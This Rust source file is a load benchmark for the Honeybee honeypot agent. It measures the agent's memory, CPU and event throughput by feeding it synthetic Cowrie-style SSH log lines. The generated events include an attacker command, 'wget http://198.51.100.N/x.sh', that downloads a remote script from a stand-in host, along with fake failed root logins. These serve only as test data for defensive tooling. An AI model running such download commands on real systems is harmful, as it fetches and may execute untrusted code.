//! `agent-load`: starts the real `honeybee-core` and a real `honeybee-agent`
//! in Full mode, then measures the agent from `/proc/<pid>`. The agent runs
//! only `relay` pots (a `sleep` that hands its `HONEYBEE_POT_TOKEN` to the
//! bench, one per 4 connections, the agent's per-pot limit): the bench
//! writes the events itself, as those pots (docs/protocol.md §8).
//!
//! 1. idle: VmRSS and VmHWM once it has registered and sat idle;
//! 2. a paced stream of `--rate` Cowrie-style lines a second for `--seconds`
//!    through its event port: RSS (sampled and peak) and CPU
//!    (utime + stime), and how many of the events the core stored;
//! 3. throughput: `--events` lines written as fast as possible over
//!    `--connections` event-port connections to a fresh agent, timed until
//!    the core's `honeybee_events_stored_total` has grown by that many (the
//!    agent forwards with `seq`, the core acknowledges after its commit):
//!    events/s end to end, agent CPU per 1,000 events, agent peak RSS.
//!
//! Prints figures beside the targets of issue 5 (idle ≤ 3 MB, ≤ 8 MB under
//! load, ≥ 20,000 events/s); asserts nothing.
//!
//!     CARGO_BUILD_JOBS=1 cargo build --release -p honeybee-core -p honeybee-agent -p honeybee-bench
//!     target/release/agent-load [--events 200000] [--rate 10000] [--seconds 10] [--connections 1]
//!
//! The binaries are found next to this one, or at `$HONEYBEE_AGENT_BIN` and
//! `$HONEYBEE_CORE_BIN`. The static musl agent, as shipped to routers:
//!
//!     HONEYBEE_CROSS_PACKAGES=honeybee-agent cross/build.sh x86_64-unknown-linux-musl
//!     HONEYBEE_AGENT_BIN=dist/x86_64-unknown-linux-musl/honeybee-agent target/release/agent-load
//!
//! Measured on the 2-core dev machine (2026-11-26): glibc release build idle
//! 3.1 MB (1.3 MB of it is libc.so), 3.6 MB at 10,000 events/s; static musl
//! build idle 1.43 MB, 2.18 MB at 10,000 events/s, 66,500 events/s forwarded
//! to acknowledgement, 4.8 ms agent CPU per 1,000 events, 3.7 MB peak.

use honeybee_bench::child;
use honeybee_bench::report::verdict;
use honeybee_bench::rss_watch::RssWatch;
use honeybee_bench::sibling_binary;
use std::io::Write;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Barrier};
use std::time::{Duration, Instant};

use honeybee_bench::core_process::{CoreProcess, Sample};

const IDLE_TARGET_MB: f64 = 3.0;
const LOAD_TARGET_MB: f64 = 8.0;
const THROUGHPUT_TARGET: f64 = 20_000.0;
const STORED: &str = "honeybee_events_stored_total";
const REGISTERED: &str = "honeybee_registrations_accepted_total";

struct Options {
    events: u64,
    rate: u64,
    seconds: u64,
    connections: u64,
    idle_secs: u64,
}

fn parse() -> Result<Options, String> {
    let mut o = Options {
        events: 200_000,
        rate: 10_000,
        seconds: 10,
        connections: 1,
        idle_secs: 3,
    };
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let mut num = || -> Result<u64, String> {
            it.next()
                .and_then(|v| v.replace('_', "").parse().ok())
                .ok_or(format!("{a} needs a number"))
        };
        match a.as_str() {
            "--events" => o.events = num()?.max(1),
            "--rate" => o.rate = num()?.max(1),
            "--seconds" => o.seconds = num()?.max(1),
            "--connections" => o.connections = num()?.clamp(1, 32),
            "--idle" => o.idle_secs = num()?,
            "--help" | "-h" => {
                println!(
                    "agent-load [--events N] [--rate EVENTS_PER_S] [--seconds S] [--connections C] [--idle S]"
                );
                std::process::exit(0);
            }
            other => return Err(format!("unknown argument {other}")),
        }
    }
    Ok(o)
}

fn free_port() -> Result<u16, String> {
    let l = TcpListener::bind("127.0.0.1:0").map_err(|e| e.to_string())?;
    Ok(l.local_addr().map_err(|e| e.to_string())?.port())
}

/// CPU time, VmRSS and VmHWM of any process.
fn sample(pid: u32) -> Result<Sample, String> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).map_err(|e| e.to_string())?;
    // After the parenthesised command name: utime and stime are fields 14, 15.
    let rest = stat.rsplit_once(')').map(|(_, r)| r).unwrap_or("");
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let ticks = |i: usize| {
        fields
            .get(i)
            .and_then(|f| f.parse::<u64>().ok())
            .unwrap_or(0)
    };
    let hz = nix::unistd::sysconf(nix::unistd::SysconfVar::CLK_TCK)
        .ok()
        .flatten()
        .unwrap_or(100) as u64;
    let cpu_ticks = ticks(11) + ticks(12);
    let status =
        std::fs::read_to_string(format!("/proc/{pid}/status")).map_err(|e| e.to_string())?;
    let kb = |key: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(key))
            .and_then(|v| v.split_whitespace().next())
            .and_then(|v| v.parse().ok())
            .unwrap_or(0)
    };
    Ok(Sample {
        cpu: Duration::from_micros(cpu_ticks * 1_000_000 / hz),
        rss_kb: kb("VmRSS:"),
        hwm_kb: kb("VmHWM:"),
    })
}

/// The agent under test, stopped (SIGTERM, then SIGKILL) and its
/// directories removed when dropped.
struct Agent {
    child: Child,
    dir: PathBuf,
    event_addr: SocketAddr,
    /// The event socket tokens of the relay pots.
    tokens: Vec<String>,
}

/// Connections per relay pot (the agent's limit per pot).
const PER_POT: usize = 4;

/// A potstore with the `relay` pot: `start` writes its token where the
/// bench reads it (`<dir>/tokens/<pot id>`) and sleeps.
fn relay_potstore(dir: &std::path::Path) -> Result<PathBuf, String> {
    use std::os::unix::fs::PermissionsExt;
    let e = |e: std::io::Error| e.to_string();
    let potstore = dir.join("potstore");
    let relay = potstore.join("relay");
    std::fs::create_dir_all(&relay).map_err(e)?;
    let tokens = dir.join("tokens");
    std::fs::create_dir_all(&tokens).map_err(e)?;
    // The pot may run as an unprivileged user; the token is a bench's.
    std::fs::set_permissions(&tokens, std::fs::Permissions::from_mode(0o777)).map_err(e)?;
    std::fs::write(
        potstore.join("potstore.json"),
        r#"{"pots": [{"id": "relay", "name": "relay", "version": "1", "type": "relay",
            "description": "bench relay", "protocols": [], "ports": {}, "directory": "relay"}]}"#,
    )
    .map_err(e)?;
    std::fs::write(
        relay.join("manifest.json"),
        r#"{"id": "relay", "name": "relay", "version": "1", "type": "relay",
            "protocols": [], "ports": {}, "config": {}, "install": "install", "start": "start"}"#,
    )
    .map_err(e)?;
    let start = format!(
        "#!/bin/sh\nset -eu\nprintf '%s' \"$HONEYBEE_POT_TOKEN\" > '{}'/\"$HONEYBEE_POT_ID\"\nexec sleep 100000\n",
        tokens.display()
    );
    for (name, text) in [
        ("install", "#!/bin/sh\nexit 0\n"),
        ("start", start.as_str()),
    ] {
        let path = relay.join(name);
        std::fs::write(&path, text).map_err(e)?;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).map_err(e)?;
    }
    for d in [dir, potstore.as_path()] {
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).map_err(e)?;
    }
    Ok(potstore)
}

impl Agent {
    /// Starts a Full mode agent with an empty potstore and waits until the
    /// core has counted its registration and its event port answers.
    fn start(core: &CoreProcess, name: &str, connections: u64) -> Result<Agent, String> {
        let dir = std::env::temp_dir().join(format!(
            "hb-agent-load-{}-{name}-{}",
            std::process::id(),
            free_port()?
        ));
        std::fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
        let potstore = relay_potstore(&dir)?;
        let event_port = free_port()?;
        let registered = core.metric_value(REGISTERED)?;
        let child = Command::new(sibling_binary("HONEYBEE_AGENT_BIN", "honeybee-agent")?)
            .arg("full")
            .arg("--core")
            .arg(core.node_addr.to_string())
            .arg("--state-dir")
            .arg(dir.join("state"))
            .arg("--event-port")
            .arg(event_port.to_string())
            .arg("--potstore")
            .arg(&potstore)
            .arg("--name")
            .arg(name)
            .env("HONEYBEE_LOG", "warn")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::inherit())
            .spawn()
            .map_err(|e| format!("starting honeybee-agent: {e}"))?;
        let mut agent = Agent {
            child,
            dir,
            event_addr: SocketAddr::from(([127, 0, 0, 1], event_port)),
            tokens: Vec::new(),
        };
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            if let Ok(Some(status)) = agent.child.try_wait() {
                return Err(format!("honeybee-agent exited at start: {status}"));
            }
            if core.metric_value(REGISTERED)? > registered
                && TcpStream::connect(agent.event_addr).is_ok()
            {
                let pots = (connections as usize).div_ceil(PER_POT);
                agent.tokens = agent.relay_tokens(core, pots)?;
                return Ok(agent);
            }
            if Instant::now() > deadline {
                return Err("the agent did not register within 15 s".into());
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Starts `pots` relay pots through the core and returns their tokens.
    fn relay_tokens(&self, core: &CoreProcess, pots: usize) -> Result<Vec<String>, String> {
        let identity = std::fs::read_to_string(self.dir.join("state/identity.json"))
            .map_err(|e| format!("reading the agent's identity: {e}"))?;
        let node: serde_json::Value =
            serde_json::from_str(&identity).map_err(|e| format!("identity.json: {e}"))?;
        let node = node["node_id"]
            .as_u64()
            .ok_or("identity.json: no node_id")?;
        let mut tokens = Vec::new();
        for k in 0..pots.max(1) {
            let cmd = format!(
                r#"{{"InstallPot": {{"pot_id": "relay-{k}", "honeypot_type": "relay", "auto_start": true}}}}"#
            );
            let answer = core.post(&format!("/api/v1/nodes/{node}/commands"), &cmd)?;
            if !answer.starts_with("HTTP/1.1 202") {
                return Err(format!("InstallPot relay-{k}: {answer}"));
            }
            let path = self.dir.join("tokens").join(format!("relay-{k}"));
            let deadline = Instant::now() + Duration::from_secs(30);
            loop {
                match std::fs::read_to_string(&path) {
                    Ok(t) if !t.is_empty() => break tokens.push(t),
                    _ if Instant::now() > deadline => {
                        return Err(format!("relay-{k} did not start within 30 s"))
                    }
                    _ => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        }
        Ok(tokens)
    }

    /// A connection to the event port as relay pot `k / PER_POT`.
    fn connect_as_pot(&self, k: usize) -> Result<TcpStream, String> {
        let token = self
            .tokens
            .get(k / PER_POT)
            .ok_or("no relay pot for this connection")?;
        let mut s = TcpStream::connect(self.event_addr).map_err(|e| e.to_string())?;
        s.write_all(format!("{{\"token\":\"{token}\"}}\n").as_bytes())
            .map_err(|e| format!("writing the token line: {e}"))?;
        Ok(s)
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn sample(&mut self) -> Result<Sample, String> {
        if let Ok(Some(status)) = self.child.try_wait() {
            return Err(format!("honeybee-agent exited: {status}"));
        }
        sample(self.pid())
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        child::stop(&mut self.child, Duration::from_secs(5));
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// The agent's peak VmRSS, sampled every 50 ms.
fn rss_watch(pid: u32) -> RssWatch {
    RssWatch::start(Duration::from_millis(50), move || {
        sample(pid).ok().map(|x| x.rss_kb)
    })
}

/// Lines as Cowrie writes them (same fields as its JSON log), `count` of
/// them, numbered from `first`; the byte offset where each line starts,
/// plus the end.
fn cowrie_lines(first: u64, count: u64) -> (Vec<u8>, Vec<usize>) {
    let mut buf = Vec::with_capacity(count as usize * 400);
    let mut starts = Vec::with_capacity(count as usize + 1);
    for i in first..first + count {
        starts.push(buf.len());
        let ip = format!("203.0.{}.{}", (i / 250) % 250, i % 250);
        let port = 40_000 + i % 20_000;
        let session = format!("{:012x}", i.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 16);
        let (eventid, extra) = if i.is_multiple_of(3) {
            (
                "cowrie.command.input",
                format!(
                    "\"input\": \"wget http://198.51.100.{}/x.sh\", \"message\": \"CMD: wget http://198.51.100.{}/x.sh\"",
                    i % 250,
                    i % 250
                ),
            )
        } else {
            (
                "cowrie.login.failed",
                format!(
                    "\"username\": \"root\", \"password\": \"pw{}\", \"message\": \"login attempt [root/pw{}] failed\"",
                    i % 1000,
                    i % 1000
                ),
            )
        };
        let _ = writeln!(
            buf,
            "{{\"session\": \"{session}\", \"protocol\": \"ssh\", \"src_ip\": \"{ip}\", \"src_port\": {port}, \
             \"dst_ip\": \"127.0.0.1\", \"dst_port\": 2222, {extra}, \"eventid\": \"{eventid}\", \
             \"sensor\": \"cowrie-01\", \"timestamp\": \"2026-11-25T22:17:59.{:06}Z\"}}",
            i % 1_000_000
        );
    }
    starts.push(buf.len());
    (buf, starts)
}

/// Waits until the core's stored counter reaches `target`, stops moving for
/// `stall`, or `limit` passes; the counter and when it last grew.
fn wait_stored(
    core: &CoreProcess,
    target: u64,
    stall: Duration,
    limit: Duration,
) -> Result<(u64, Instant), String> {
    let deadline = Instant::now() + limit;
    let (mut last, mut grew) = (core.metric_value(STORED)?, Instant::now());
    loop {
        let n = core.metric_value(STORED)?;
        let at = Instant::now();
        if n != last {
            (last, grew) = (n, at);
        }
        if n >= target || at > deadline || at.duration_since(grew) > stall {
            return Ok((n, grew));
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn mb(kb: u64) -> f64 {
    kb as f64 / 1024.0
}

/// The rate counts only when every event arrived.
fn throughput_verdict(rate: f64, stored: u64, sent: u64) -> &'static str {
    if stored < sent {
        "MISSED: events lost"
    } else {
        verdict(rate >= THROUGHPUT_TARGET)
    }
}

struct Figures {
    idle_rss_kb: u64,
    idle_hwm_kb: u64,
    stream_rss_max_kb: u64,
    stream_hwm_kb: u64,
    stream_cpu_pct: f64,
    stream_stored: u64,
    stream_sent: u64,
    throughput: f64,
    throughput_stored: u64,
    throughput_sent: u64,
    cpu_ms_per_1000: f64,
    throughput_hwm_kb: u64,
}

fn idle(core: &CoreProcess, agent: &mut Agent, o: &Options) -> Result<(u64, u64), String> {
    std::thread::sleep(Duration::from_secs(o.idle_secs));
    let s = agent.sample()?;
    let core_s = sample_core(core);
    println!(
        "idle: agent registered (Full mode, relay pots only) and idle {} s: VmRSS {:.2} MB, VmHWM {:.2} MB — target ≤ {IDLE_TARGET_MB} MB: {}   (core VmRSS {:.1} MB)",
        o.idle_secs,
        mb(s.rss_kb),
        mb(s.hwm_kb),
        verdict(mb(s.rss_kb) <= IDLE_TARGET_MB),
        mb(core_s.rss_kb)
    );
    Ok((s.rss_kb, s.hwm_kb))
}

fn sample_core(core: &CoreProcess) -> Sample {
    core.sample().unwrap_or(Sample {
        cpu: Duration::ZERO,
        rss_kb: 0,
        hwm_kb: 0,
    })
}

/// Phase 2: `rate` lines a second for `seconds` over one connection, sent in
/// 1 ms ticks; returns (max VmRSS, VmHWM, CPU % of one core, stored, sent).
fn stream(
    core: &CoreProcess,
    agent: &mut Agent,
    o: &Options,
) -> Result<(u64, u64, f64, u64, u64), String> {
    let total = o.rate * o.seconds;
    let (buf, starts) = cowrie_lines(1, total);
    let base = core.metric_value(STORED)?;
    let mut sock = agent.connect_as_pot(0)?;
    let watch = rss_watch(agent.pid());
    let before = agent.sample()?;
    let core_before = sample_core(core);
    let start = Instant::now();
    let mut sent = 0u64;
    while sent < total {
        let due = ((start.elapsed().as_secs_f64() * o.rate as f64) as u64).min(total);
        if due > sent {
            sock.write_all(&buf[starts[sent as usize]..starts[due as usize]])
                .map_err(|e| format!("writing to the event port: {e}"))?;
            sent = due;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let send_secs = start.elapsed().as_secs_f64();
    let (stored_now, at) = wait_stored(
        core,
        base + total,
        Duration::from_secs(5),
        Duration::from_secs(30),
    )?;
    let stored = stored_now - base;
    let drain = at.duration_since(start).as_secs_f64() - send_secs;
    let after = agent.sample()?;
    let core_after = sample_core(core);
    let rss_max = watch.finish().max(after.rss_kb);
    drop(sock);
    let cpu = (after.cpu - before.cpu).as_secs_f64();
    let elapsed = at.duration_since(start).as_secs_f64();
    let pct = cpu * 100.0 / elapsed;
    println!(
        "stream: {} lines/s for {} s over 1 connection ({} lines, {:.0} bytes each): core stored {} of {} ({:.2} s after the last line); \
         agent VmRSS max {:.2} MB, VmHWM {:.2} MB — target ≤ {LOAD_TARGET_MB} MB: {}; \
         agent CPU {:.2} s = {:.1}% of one core ({:.1} µs per event)   (core CPU {:.1}% of one core)",
        o.rate,
        o.seconds,
        total,
        buf.len() as f64 / total as f64,
        stored,
        total,
        drain.max(0.0),
        mb(rss_max),
        mb(after.hwm_kb),
        verdict(mb(after.hwm_kb) <= LOAD_TARGET_MB),
        cpu,
        pct,
        cpu * 1e6 / total as f64,
        (core_after.cpu - core_before.cpu).as_secs_f64() * 100.0 / elapsed
    );
    Ok((rss_max, after.hwm_kb, pct, stored, total))
}

/// Phase 3: `events` lines as fast as possible over `connections`
/// connections; returns (events/s, agent CPU ms per 1,000, VmHWM, stored).
fn throughput(
    core: &CoreProcess,
    agent: &mut Agent,
    o: &Options,
) -> Result<(f64, f64, u64, u64), String> {
    let per = o.events / o.connections;
    let total = per * o.connections;
    let mut bufs = Vec::new();
    let mut bytes = 0usize;
    for c in 0..o.connections {
        let (buf, _) = cowrie_lines(1 + c * per, per);
        bytes += buf.len();
        bufs.push(buf);
    }
    let base = core.metric_value(STORED)?;
    let ready = Arc::new(Barrier::new(o.connections as usize + 1));
    let mut socks = Vec::new();
    for k in 0..o.connections as usize {
        socks.push(agent.connect_as_pot(k)?);
    }
    let mut senders = Vec::new();
    for (buf, mut sock) in bufs.into_iter().zip(socks) {
        let ready = ready.clone();
        senders.push(std::thread::spawn(
            move || -> Result<(Instant, TcpStream), String> {
                ready.wait();
                sock.write_all(&buf)
                    .map_err(|e| format!("writing to the event port: {e}"))?;
                Ok((Instant::now(), sock))
            },
        ));
    }
    let watch = rss_watch(agent.pid());
    let before = agent.sample()?;
    let core_before = sample_core(core);
    ready.wait();
    let start = Instant::now();
    let limit = Duration::from_secs(60 + total / 2_000);
    let (stored_now, at) = wait_stored(core, base + total, Duration::from_secs(5), limit)?;
    let mut written = start;
    let mut socks = Vec::new();
    for s in senders {
        match s.join() {
            Ok(Ok((t, sock))) => {
                written = written.max(t);
                socks.push(sock);
            }
            Ok(Err(e)) => eprintln!("agent-load: a sender failed: {e}"),
            Err(_) => eprintln!("agent-load: a sender panicked"),
        }
    }
    let after = agent.sample()?;
    let core_after = sample_core(core);
    let rss_max = watch.finish().max(after.rss_kb);
    drop(socks);
    let stored = stored_now - base;
    let secs = at.duration_since(start).as_secs_f64();
    let rate = stored as f64 / secs;
    let cpu = (after.cpu - before.cpu).as_secs_f64();
    // Per line written into the agent: it read and spooled every one.
    let cpu_ms = cpu * 1e6 / total as f64;
    if stored < total {
        eprintln!(
            "agent-load: the core stored {stored} of {total} events; its counter last grew {:.2} s after the start and then stood still 5 s",
            secs
        );
    }
    println!(
        "throughput: {} lines ({:.0} bytes each) over {} connections, all written into the agent in {:.2} s; \
         {} of them stored by the core in {:.2} s: {:.0} events/s end to end to acknowledgement — target ≥ {THROUGHPUT_TARGET:.0}: {}; \
         agent CPU {:.2} s = {:.1} ms per 1,000 events ({:.0}% of one core); agent VmRSS max {:.2} MB, VmHWM {:.2} MB — target ≤ {LOAD_TARGET_MB} MB: {}   \
         (core CPU {:.2} s = {:.1} ms per 1,000 events, core VmRSS {:.1} MB)",
        total,
        bytes as f64 / total as f64,
        o.connections,
        written.duration_since(start).as_secs_f64(),
        stored,
        secs,
        rate,
        throughput_verdict(rate, stored, total),
        cpu,
        cpu_ms,
        cpu * 100.0 / secs,
        mb(rss_max),
        mb(after.hwm_kb),
        verdict(mb(after.hwm_kb) <= LOAD_TARGET_MB),
        (core_after.cpu - core_before.cpu).as_secs_f64(),
        (core_after.cpu - core_before.cpu).as_secs_f64() * 1e6 / stored.max(1) as f64,
        mb(core_after.rss_kb)
    );
    Ok((rate, cpu_ms, after.hwm_kb, stored))
}

fn run(o: &Options) -> Result<Figures, String> {
    let core = CoreProcess::start(false)?;
    let (idle_rss_kb, idle_hwm_kb, stream_figures) = {
        let mut agent = Agent::start(&core, "agent-load-1", 1)?;
        let (rss, hwm) = idle(&core, &mut agent, o)?;
        (rss, hwm, stream(&core, &mut agent, o)?)
    };
    let (stream_rss_max_kb, stream_hwm_kb, stream_cpu_pct, stream_stored, stream_sent) =
        stream_figures;
    let mut agent = Agent::start(&core, "agent-load-2", o.connections)?;
    let (throughput, cpu_ms_per_1000, throughput_hwm_kb, throughput_stored) =
        throughput(&core, &mut agent, o)?;
    Ok(Figures {
        idle_rss_kb,
        idle_hwm_kb,
        stream_rss_max_kb,
        stream_hwm_kb,
        stream_cpu_pct,
        stream_stored,
        stream_sent,
        throughput,
        throughput_stored,
        throughput_sent: o.events / o.connections * o.connections,
        cpu_ms_per_1000,
        throughput_hwm_kb,
    })
}

fn main() {
    let o = match parse() {
        Ok(o) => o,
        Err(e) => {
            eprintln!("agent-load: {e}");
            std::process::exit(2);
        }
    };
    // Everything runs inside `run` so that the processes are stopped (their
    // Drop) before exiting, on success and on error alike.
    let f = match run(&o) {
        Ok(f) => f,
        Err(e) => {
            eprintln!("agent-load: {e}");
            std::process::exit(1);
        }
    };
    println!();
    println!("| agent (Full mode, relay pots only) | measured | target |");
    println!("|---|---|---|");
    println!(
        "| idle VmRSS (VmHWM) | {:.2} MB ({:.2}) | ≤ {IDLE_TARGET_MB} MB: {} |",
        mb(f.idle_rss_kb),
        mb(f.idle_hwm_kb),
        verdict(mb(f.idle_rss_kb) <= IDLE_TARGET_MB)
    );
    println!(
        "| {} events/s stream: VmRSS max (VmHWM) | {:.2} MB ({:.2}) | ≤ {LOAD_TARGET_MB} MB: {} |",
        o.rate,
        mb(f.stream_rss_max_kb),
        mb(f.stream_hwm_kb),
        verdict(mb(f.stream_hwm_kb) <= LOAD_TARGET_MB)
    );
    println!(
        "| {} events/s stream: CPU, stored | {:.1}% of one core, {} of {} | – |",
        o.rate, f.stream_cpu_pct, f.stream_stored, f.stream_sent
    );
    println!(
        "| burst of {} over {} connection(s): forwarded end to end to ack | {:.0} events/s ({} of {} stored) | ≥ {THROUGHPUT_TARGET:.0}: {} |",
        f.throughput_sent,
        o.connections,
        f.throughput,
        f.throughput_stored,
        f.throughput_sent,
        throughput_verdict(f.throughput, f.throughput_stored, f.throughput_sent)
    );
    println!("| CPU per 1,000 events | {:.1} ms | – |", f.cpu_ms_per_1000);
    println!(
        "| throughput run VmHWM | {:.2} MB | ≤ {LOAD_TARGET_MB} MB: {} |",
        mb(f.throughput_hwm_kb),
        verdict(mb(f.throughput_hwm_kb) <= LOAD_TARGET_MB)
    );
}
